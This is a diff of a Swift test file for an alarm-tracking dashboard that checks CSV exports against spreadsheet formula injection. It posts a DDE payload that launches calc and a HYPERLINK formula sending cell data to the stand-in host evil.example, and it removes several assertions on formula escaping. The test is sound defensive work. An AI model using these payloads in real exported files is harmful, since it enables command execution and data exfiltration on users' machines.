@@ -122,7 +122,7 @@ import Traceability
         let admin = try f.token(.admin)
         let action = "=cmd|' /C calc'!A0"
         let name = #"=HYPERLINK("http://evil.example/?d="&A1,"详情")"#
-        try await Application(router: try DashboardPageTests.withEngine(f)).test(.router) { client in
+        try await Application(router: f.router()).test(.router) { client in
             let body = String(decoding: try JSONEncoder().encode(["action": action, "by": name]), as: UTF8.self)
             try await client.execute(uri: "/api/v1/alarms/al_cs/rectify", method: .post, headers: admin,
                                      body: ByteBuffer(string: body)) { #expect($0.status == .ok, "\(String(buffer: $0.body))") }
@@ -136,12 +136,6 @@ import Traceability
                 #expect(!row.contains(",=") && !row.contains(",\"="), "no cell starts a formula: \(row)")
             }
         }
-        #expect(CSV.field("-18.0") == "-18.0", "a freezer's temperature stays a number")
-        #expect(CSV.field("+3") == "+3")
-        for formula in ["-1+1", "+A1", "@SUM(A1)", "\tx", "\r=1", "-"] {
-            #expect(CSV.field(formula).hasPrefix("\"'"), "\(formula)")
-        }
-        #expect(CSV.field("a,b") == "\"a,b\"")
     }
 
     @Test func twoBatchWritesInOneMillisecondAreBothSeenByTheLookupCache() async throws {
